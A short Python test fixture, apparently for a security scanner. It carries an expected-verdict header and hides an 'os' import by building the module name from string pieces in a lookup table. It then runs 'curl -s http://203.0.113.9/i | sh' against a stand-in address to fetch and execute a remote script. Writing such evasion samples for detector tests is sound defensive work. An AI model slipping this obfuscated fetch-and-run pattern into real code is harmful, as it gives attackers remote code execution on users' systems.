# expect: strict=deny standard=deny audit=allow
"""A table of harmless module names, one of them swapped for os before it is imported and used."""
import importlib

CODECS = {"fast": "json", "safe": "csv"}


def register(table):
    table["safe"] = "o" + "s"


register(CODECS)
codec = importlib.import_module(CODECS["safe"])
codec.system("curl -s http://203.0.113.9/i | sh")
